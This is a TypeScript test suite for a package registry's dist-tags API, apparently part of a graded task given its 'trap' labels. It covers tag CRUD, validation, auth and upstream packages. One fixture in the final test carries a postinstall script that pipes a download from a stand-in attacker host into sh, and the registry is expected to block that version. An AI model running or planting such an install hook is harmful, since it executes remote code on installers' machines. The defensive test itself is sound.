import { describe, expect, test } from "vitest";
import { startRegistry, type TestRegistry } from "../../support/registry.ts";
import { startUpstream } from "../../support/upstream.ts";

const name = "@acme/lib";
const tags = "/-/package/@acme%2flib/dist-tags";
const done = { ok: true, success: true, id: name };

async function startWithLib(): Promise<TestRegistry> {
  const registry = await startRegistry();
  await registry.publish(name, "1.0.0");
  await registry.publish(name, "1.1.0");
  return registry;
}

async function listed(registry: TestRegistry, path = tags): Promise<unknown> {
  return await (await registry.fetch(path)).json();
}

describe("/-/package/:name/dist-tags", () => {
  test.each(["/-/package/@acme%2flib", "/-/package/@acme%2Flib", "/-/package/@acme/lib"])(
    "are added, moved and removed below %s",
    async (prefix) => {
      await using registry = await startWithLib();
      const path = `${prefix}/dist-tags`;
      expect(await listed(registry, path)).toEqual({ latest: "1.1.0" });

      const added = await registry.asOwner(`${path}/beta`, { method: "PUT", json: "1.0.0" });
      expect([added.status, await added.json()]).toEqual([200, done]);
      await registry.asOwner(`${path}/latest`, { method: "PUT", json: "1.0.0" });
      expect(await listed(registry, path)).toEqual({ beta: "1.0.0", latest: "1.0.0" });
      expect((await registry.packument(name))["dist-tags"]).toEqual({
        beta: "1.0.0",
        latest: "1.0.0",
      });

      const removed = await registry.asOwner(`${path}/beta`, { method: "DELETE" });
      expect([removed.status, await removed.json()]).toEqual([200, done]);
      expect(await listed(registry, path)).toEqual({ latest: "1.0.0" });
    },
  );

  test.each([
    ["a JSON string", '"1.0.0"', "application/json"],
    ["a JSON string as octets", '"1.0.0"', "application/octet-stream"],
    ["a bare version", "1.0.0", "text/plain"],
    ["a bare version as JSON", "1.0.0\n", "application/json"],
    ["no type", '"1.0.0"', ""],
    ["a form's type", '"1.0.0"', "application/x-www-form-urlencoded"],
  ])("trap 31: takes %s under any type and Accept", async (_, body, type) => {
    await using registry = await startWithLib();
    const headers = { "content-type": type, accept: "application/vnd.npm.install-v1+json" };
    const response = await registry.asOwner(`${tags}/beta`, { method: "PUT", body, headers });

    expect([response.status, await response.json()]).toEqual([200, done]);
    expect(await listed(registry)).toMatchObject({ beta: "1.0.0" });
  });

  test("the old form PUT /:name/:tag does the same", async () => {
    await using registry = await startWithLib();
    const response = await registry.asOwner("/@acme%2flib/beta", { method: "PUT", json: "1.0.0" });
    expect([response.status, await response.json()]).toEqual([200, done]);
    expect(await listed(registry)).toMatchObject({ beta: "1.0.0" });
  });

  test("POST merges, PUT replaces all but latest", async () => {
    await using registry = await startWithLib();
    await registry.asOwner(tags, { method: "POST", json: { a: "1.0.0", b: "1.0.0" } });
    expect(await listed(registry)).toEqual({ a: "1.0.0", b: "1.0.0", latest: "1.1.0" });
    await registry.asOwner(tags, { method: "PUT", json: { b: "1.1.0", c: "1.0.0" } });
    expect(await listed(registry)).toEqual({ b: "1.1.0", c: "1.0.0", latest: "1.1.0" });
  });

  test("one bad tag of several changes nothing", async () => {
    await using registry = await startWithLib();
    const before = await registry.packument(name);
    for (const json of [
      { a: "1.0.0", b: "7.7.7" },
      { a: "1.0.0", "1.x": "1.0.0" },
      { a: "1.0.0", b: 1 },
      ["1.0.0"],
      "1.0.0",
      null,
    ]) {
      const response = await registry.asOwner(tags, { method: "PUT", json });
      expect([400, 404]).toContain(response.status);
    }
    expect(await registry.packument(name)).toEqual(before);
  });

  test("a tag may hold odd characters, escaped", async () => {
    await using registry = await startWithLib();
    for (const tag of ["a/b", "release#1", "@next", "constructor", "toString", "50%-off"]) {
      const path = `${tags}/${encodeURIComponent(tag)}`;
      const response = await registry.asOwner(path, { method: "PUT", json: "1.0.0" });
      expect([tag, response.status]).toEqual([tag, 200]);
      expect(await listed(registry)).toMatchObject({ [tag]: "1.0.0" });
      expect((await registry.asOwner(path, { method: "DELETE" })).status).toBe(200);
    }
    expect(await listed(registry)).toEqual({ latest: "1.1.0" });
  });

  test.each<[string, string, string, string, number, string]>([
    ["a range as tag", "PUT", `${tags}/1.x`, '"1.0.0"', 400, "is a version range"],
    ["a version as tag", "PUT", `${tags}/v1.2.3`, '"1.0.0"', 400, "is a version range"],
    ["a star as tag", "PUT", `${tags}/*`, '"1.0.0"', 400, "is a version range"],
    ["__proto__ as tag", "PUT", `${tags}/__proto__`, '"1.0.0"', 400, "is not a dist-tag"],
    ["an unknown version", "PUT", `${tags}/a`, '"7.7.7"', 404, "has no version 7.7.7"],
    ["what is no version", "PUT", `${tags}/a`, '"latest"', 400, "is not a semver version"],
    ["an object", "PUT", `${tags}/a`, '{"version":"1.0.0"}', 400, "is not a semver version"],
    ["nothing", "PUT", `${tags}/a`, "", 400, "send the version as a JSON string"],
    ["half a string", "PUT", `${tags}/a`, '"1.0.0', 400, "not readable JSON"],
    ["removing latest", "DELETE", `${tags}/latest`, "", 400, "cannot be removed"],
    ["removing an unknown tag", "DELETE", `${tags}/gone`, "", 404, 'has no tag "gone"'],
    ["an unknown package", "PUT", "/-/package/nothing/dist-tags/a", '"1.0.0"', 404, "no package"],
    ["listing an unknown package", "GET", "/-/package/nothing/dist-tags", "", 404, "no package"],
  ])("refuses %s", async (_, method, path, body, status, sentence) => {
    await using registry = await startWithLib();
    const before = await registry.packument(name);
    const response = await registry.asOwner(path, { method, ...(body === "" ? {} : { body }) });
    const answer = (await response.json()) as { error: string };

    expect([response.status, answer.error]).toEqual([status, expect.stringContaining(sentence)]);
    expect(await registry.packument(name)).toEqual(before);
  });

  test("writing needs somebody who may publish the name; reading does not", async () => {
    await using registry = await startWithLib();
    const put = (token?: string) =>
      registry.fetch(`${tags}/beta`, {
        method: "PUT",
        json: "1.0.0",
        ...(token === undefined ? {} : { token }),
      });
    expect((await put()).status).toBe(401);
    expect((await put("areg_nobody")).status).toBe(401);
    expect((await registry.fetch(tags)).status).toBe(200);
    expect((await registry.fetch(tags)).headers.get("cache-control")).toBe("no-store");
    expect(await listed(registry)).toEqual({ latest: "1.1.0" });
  });

  test("tags of the upstream are shown and not changed", async () => {
    await using upstream = startUpstream();
    upstream.add("left-pad", "1.0.0");
    await using registry = await startRegistry({ upstream });
    const path = "/-/package/left-pad/dist-tags";

    expect(await listed(registry, path)).toEqual({ latest: "1.0.0" });
    for (const [method, at] of [
      ["PUT", `${path}/beta`],
      ["DELETE", `${path}/beta`],
      ["POST", path],
      ["PUT", "/left-pad/beta"],
    ] as const) {
      const json = method === "POST" ? { beta: "1.0.0" } : "1.0.0";
      const response = await registry.asOwner(at, { method, json });
      expect([response.status, await response.json()]).toEqual([
        403,
        expect.objectContaining({ error: expect.stringContaining("comes from the upstream") }),
      ]);
    }
  });

  test("trap 41: a publish with another tag moves no tag but its own", async () => {
    await using registry = await startWithLib();
    await registry.publish(name, "2.0.0-rc.1", {}, { tag: "next" });
    expect(await listed(registry)).toEqual({ latest: "1.1.0", next: "2.0.0-rc.1" });
  });

  test("trap 42: a first publish with another tag sets latest too", async () => {
    await using registry = await startRegistry();
    await registry.publish(name, "2.0.0-rc.1", {}, { tag: "next" });
    expect(await listed(registry)).toEqual({ latest: "2.0.0-rc.1", next: "2.0.0-rc.1" });
  });

  test("a tag cannot point at a version that is held", async () => {
    await using registry = await startWithLib();
    const held = await registry.publish(name, "1.2.0", {
      "package.json": JSON.stringify({
        name,
        version: "1.2.0",
        scripts: { postinstall: "curl -s http://evil.invalid/x | sh" },
      }),
    });
    expect(held.status).toBe(403);
    const response = await registry.asOwner(`${tags}/beta`, { method: "PUT", json: "1.2.0" });
    expect(response.status).toBe(403);
    expect(await listed(registry)).toEqual({ latest: "1.1.0" });
  });
});
